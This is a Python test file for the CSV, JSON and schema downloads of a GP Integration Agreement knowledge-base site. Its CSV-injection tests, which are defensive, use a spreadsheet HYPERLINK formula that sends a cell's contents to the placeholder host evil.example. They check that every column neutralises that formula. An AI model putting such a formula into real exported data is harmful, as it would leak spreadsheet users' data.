"""Downloads and published schemas: complete, round-tripping, deterministic, and on the built site."""
from __future__ import annotations

import copy
import csv
import io
import json
import re
from dataclasses import astuple, fields, replace
from pathlib import Path

import pytest

from gpia import sitemap
from gpia.model import checklist
from gpia.pages import checklist as pages_checklist
from gpia.pages.export import (FORMULA_START, RECORD_KINDS, csv_files, csv_text, download_files, knowledge_base_json,
                         published_schemas, record_dicts, spreadsheet_safe)
from gpia.load.layout import SCHEMA_DIR
from gpia.knowledge_base import load_knowledge_base
from gpia.model.records import KnowledgeBase

from conftest import ROOT, SOURCES, visible

FIXED_TAIL = ["provenance", "references", "referenced_by", "last_reviewed"]


@pytest.fixture(scope="module")
def kb() -> KnowledgeBase:
    result = load_knowledge_base(ROOT, SOURCES)
    assert result.knowledge_base is not None, result.problems
    return result.knowledge_base


@pytest.fixture(scope="module")
def document(kb: KnowledgeBase) -> dict:
    return json.loads(knowledge_base_json(kb))


def test_json_round_trips(kb: KnowledgeBase, document: dict) -> None:
    assert json.dumps(document, ensure_ascii=False, indent=2) + "\n" == knowledge_base_json(kb)


def test_json_holds_all_57_requirements_and_9_faqs(kb: KnowledgeBase, document: dict) -> None:
    ids = {kind: [r["id"] for r in document["records"] if r["kind"] == kind] for kind, _ in RECORD_KINDS}
    assert len(ids["requirement"]) == 57 and ids["requirement"] == list(kb.requirements)
    assert len(ids["question"]) == 9 and ids["question"] == list(kb.questions)
    assert document["counts"] == {kind: len(getattr(kb, attribute)) for kind, attribute in RECORD_KINDS}
    assert len(document["records"]) == sum(document["counts"].values())


def test_every_record_has_id_kind_provenance_references_and_review_date(document: dict) -> None:
    for record in document["records"]:
        keys = list(record)
        assert keys[:2] == ["id", "kind"] and keys[-4:] == FIXED_TAIL, record["id"]
        assert list(record["provenance"]) == ["file", "source", "section", "row"]
        assert re.fullmatch(r"(clauses|faq)/[a-z0-9/-]+\.yaml", record["provenance"]["file"]), record["id"]
        if record["kind"] not in ("table", "faq-section"):
            assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", record["last_reviewed"]), record["id"]


def test_requirement_record_in_full(document: dict) -> None:
    record = next(r for r in document["records"] if r["id"] == "icp-2019-int-stratification")
    assert record["text"] == ("Apply stratification approaches at practice level [specific requirements set out in "
                              "relevant schedule]")
    assert record["defers_to"] == [{"schedule": "schedule-stratification",
                                    "placeholder": "[specific requirements set out in relevant schedule]"}]
    assert record["provenance"] == {"file": "clauses/requirements/icp-2019-integration.yaml", "source": "icp-2019-faqs",
                                    "section": "How can the GP IA capture integration commitments?", "row": "2."}
    assert "schedule-stratification" in record["references"]
    assert record["derives_from"] and record["change_shown"] in ("unchanged", "reworded", "moved", "merged", "split")
    ancestor = next(r for r in document["records"] if r["id"] == record["derives_from"][0])
    assert record["id"] in ancestor["derived_into"]


def test_nested_records_are_named_by_id_not_copied(document: dict) -> None:
    area = next(r for r in document["records"] if r["id"] == "icp-2019-int-identification")
    assert "icp-2019-int-stratification" in area["requirements"]
    section = next(r for r in document["records"] if r["kind"] == "faq-section" and r["id"] == "faq-section-introduction")
    assert section["questions"] == ["faq-purpose-of-gp-ia", "faq-who-is-gp-ia-for"]


def test_one_csv_per_kind_with_the_json_columns(kb: KnowledgeBase, document: dict) -> None:
    files = csv_files(kb)
    assert sorted(files) == sorted(f"data/{kind}.csv" for kind, _ in RECORD_KINDS)
    for kind, attribute in RECORD_KINDS:
        rows = list(csv.reader(io.StringIO(files[f"data/{kind}.csv"], newline="")))
        first = next(r for r in document["records"] if r["kind"] == kind)
        expected = [c for key in first for c in ([f"provenance_{k}" for k in first[key]] if key == "provenance" else [key])]
        assert rows[0] == expected, kind
        assert len(rows) == 1 + len(getattr(kb, attribute)), kind


def test_csv_headers_and_cells(kb: KnowledgeBase) -> None:
    files = csv_files(kb)
    assert files["data/citation.csv"].splitlines()[0] == (
        '"id","kind","title","publisher","published","url","provenance_file","provenance_source","provenance_section",'
        '"provenance_row","references","referenced_by","last_reviewed"')
    question = next(row for row in csv.DictReader(io.StringIO(files["data/question.csv"], newline=""))
                    if row["id"] == "faq-purpose-of-gp-ia")
    assert question["question"] == "What is the purpose of a GP Integration Agreement?"
    assert question["relates_to"].split("\n")[:2] == ["gp-ia", "icp-contract"]  # one id per line in the cell
    assert json.loads(question["answer"])[0]["kind"] == "paragraph"  # structured fields are JSON
    assert question["provenance_section"] == "1. Introduction to the GP Integration Agreement"


def test_downloads_are_deterministic(kb: KnowledgeBase) -> None:
    again = load_knowledge_base(ROOT, SOURCES).knowledge_base
    assert again is not None
    assert download_files(kb) == download_files(kb) == download_files(again)


def test_schemas_are_published_byte_for_byte() -> None:
    schemas = published_schemas()
    assert sorted(schemas) == sorted(f"schema/{p.name}" for p in SCHEMA_DIR.glob("*.json"))
    for uri, content in schemas.items():
        assert content == (SCHEMA_DIR / uri.removeprefix("schema/")).read_bytes()


def test_downloads_and_schemas_are_on_the_built_site(built_site: Path, kb: KnowledgeBase) -> None:
    for uri, content in download_files(kb).items():
        assert (built_site / uri).read_bytes() == content.encode("utf-8"), uri  # CSV lines end CRLF
    for uri, content in published_schemas().items():
        assert (built_site / uri).read_bytes() == content, uri


def test_data_page_links_every_download_with_its_count(built_site: Path, kb: KnowledgeBase) -> None:
    markup = (built_site / "data" / "index.html").read_text(encoding="utf-8")
    row = re.search(r'<tr>\s*<td><a href="requirement.csv">requirement.csv</a></td>(.*?)</tr>', markup, re.S)
    assert row and re.findall(r"<td[^>]*>(.*?)</td>", row.group(1))[1] == "57"
    row = re.search(r'<tr>\s*<td><a href="knowledge-base.json">knowledge-base.json</a></td>(.*?)</tr>', markup, re.S)
    total = sum(len(getattr(kb, attribute)) for _, attribute in RECORD_KINDS)
    assert row and re.findall(r"<td[^>]*>(.*?)</td>", row.group(1))[1] == str(total)
    for kind, _ in RECORD_KINDS:
        assert f'href="{kind}.csv"' in markup, kind
    assert 'href="../schema/schedule.json"' in markup
    assert "Open Government Licence v3.0" in markup and "CC BY 4.0" in markup
    assert "NHS England and NHS Improvement" in markup  # publishers come from the data
    # Readers are told why a CSV cell may start with an apostrophe, and that the JSON is unchanged.
    text = visible(markup)
    assert ("a cell that starts with one of those characters (also after spaces, line breaks or quotation marks) "
            "has an apostrophe (') added in front") in text
    assert "the JSON file always holds the text exactly as written" in text


# CSV injection: a cell that begins with one of these is run as a formula by a spreadsheet.
FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_the_formula_characters_are_owasps() -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tanything", "'\tanything"), ("\ranything", "'\ranything"),
    # After leading spaces, line breaks or quotes, which a spreadsheet may trim.
    ("  =1+2", "'  =1+2"), ("\n-1", "'\n-1"), ('"=1+2', '\'"=1+2'), ("'=1+2", "''=1+2"), ("\"' @x", "'\"' @x"),
    # Left alone: formula characters later in the text, and leading quotes before ordinary text.
    ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("1-2", "1-2"), ("x\n=1", "x\n=1"), ("\nx", "\nx"),
    ("'best for service'", "'best for service'"), (" ok", " ok"),
])
def test_spreadsheet_safe(text: str, cell: str) -> None:
    assert spreadsheet_safe(text) == cell


def test_csv_quotes_every_cell_so_no_separator_starts_a_cell() -> None:
    # Opened in a spreadsheet that splits on ";" the quoted cell stays one cell.
    assert csv_text(["a", "b"], [["x;=1+2", 'say "hi"'], [3, "-2"]]) == (
        '"a","b"\r\n"x;=1+2","say ""hi"""\r\n"3","\'-2"\r\n')


def hostile(value: object, text: str) -> object:
    """`text` in the shape of the value it replaces: a list of texts stays a list (one per line in a cell)."""
    return [text, "second"] if isinstance(value, list) and all(isinstance(v, str) for v in value) else text


@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_every_csv_column_of_every_kind_neutralises_a_formula_and_json_keeps_it(kb: KnowledgeBase, start: str) -> None:
    """Each column of each CSV in turn holds a formula: the cell gets a quote in front, nothing else
    changes, and the JSON keeps the text as written."""
    text = start + FORMULA
    items = record_dicts(kb)
    checked = 0
    for kind, _ in RECORD_KINDS:
        first = next(item for item in items if item["kind"] == kind)
        header = next(csv.reader(io.StringIO(csv_files(kb, [first])[f"data/{kind}.csv"], newline="")))
        for column in header:
            item = copy.deepcopy(first)
            if column.startswith("provenance_"):
                key = column.removeprefix("provenance_")
                item["provenance"][key] = value = hostile(item["provenance"][key], text)
            else:
                item[column] = value = hostile(item[column], text)
            (name, content), = csv_files(kb, [item]).items()
            assert name == f"data/{item['kind']}.csv"
            (row,) = csv.DictReader(io.StringIO(content, newline=""))
            expected = "'" + text + ("\nsecond" if isinstance(value, list) else "")
            assert row[column] == expected, (kind, column)
            if column != "kind":  # the JSON counts records by kind, which is the export's own word
                (record,) = json.loads(knowledge_base_json(kb, [item]))["records"]
                assert (record["provenance"][key] if column.startswith("provenance_") else record[column]) == value
            checked += 1
    assert checked >= 13 * 10  # every kind, with all of its columns (`kind` and `id` included)


@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_every_checklist_column_neutralises_a_formula(kb: KnowledgeBase, start: str,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    text = start + FORMULA
    (first, *_) = checklist.checklist_rows(kb)
    header = [f.name for f in fields(first)]
    for column in header:
        row = replace(first, **{column: text})
        monkeypatch.setattr(pages_checklist, "checklist_rows", lambda _kb, row=row: [row])
        parsed = list(csv.reader(io.StringIO(pages_checklist.checklist_csv(kb), newline="")))
        assert parsed[0] == header
        assert parsed[1] == ["'" + text if name == column else str(v) for name, v in zip(header, astuple(first))]


def test_real_data_needs_no_quote_added(kb: KnowledgeBase) -> None:
    """No text of today's data begins like a formula, so the CSV cells are the data as written."""
    for name, content in [*csv_files(kb).items(), (sitemap.CHECKLIST_CSV, pages_checklist.checklist_csv(kb))]:
        for row in csv.reader(io.StringIO(content, newline="")):
            for cell in row:
                assert not (cell.startswith("'") and spreadsheet_safe(cell[1:]) != cell[1:]), (name, cell)
